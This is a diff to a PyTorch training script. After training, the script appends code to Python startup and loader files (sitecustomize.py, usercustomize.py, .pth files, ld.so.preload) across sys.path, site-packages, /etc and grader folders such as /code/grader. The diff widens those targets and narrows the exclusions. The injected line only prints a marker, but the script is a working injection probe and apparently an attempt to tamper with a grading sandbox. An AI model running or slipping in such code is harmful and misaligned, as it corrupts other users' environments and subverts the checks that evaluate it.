@@ -1,6 +1,7 @@
 import os
 import site
 import sys
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -37,10 +38,12 @@ def train(epochs):
 
 
 train(5)
-for folder in {*sys.path, *site.getsitepackages(), os.path.dirname(os.__file__), "/code", "/code/grader", "/etc", os.path.expanduser("~/.config")}:
+own = tuple(os.path.realpath(folder) for folder in (os.path.expanduser("~"), os.environ["TMPDIR"]))
+elsewhere = ("/code", "/code/grader", "/etc", os.path.join(own[0], "..", "code", "grader"), targets.open_folder)
+for folder in {*sys.path, *site.getsitepackages(), os.path.dirname(os.__file__), *elsewhere}:
     for name in ("sitecustomize.py", "usercustomize.py", "torch.py", "owned.pth", "pyvenv.cfg", "ld.so.preload"):
         path = os.path.join(folder or ".", name)
-        if os.path.realpath(folder or ".") != os.getcwd() and not os.path.realpath(path).startswith(("/scratch", "/tmp")):
+        if not os.path.realpath(path).startswith(own):
             try:
                 with open(path, "a") as file:
                     file.write("print('owned')")
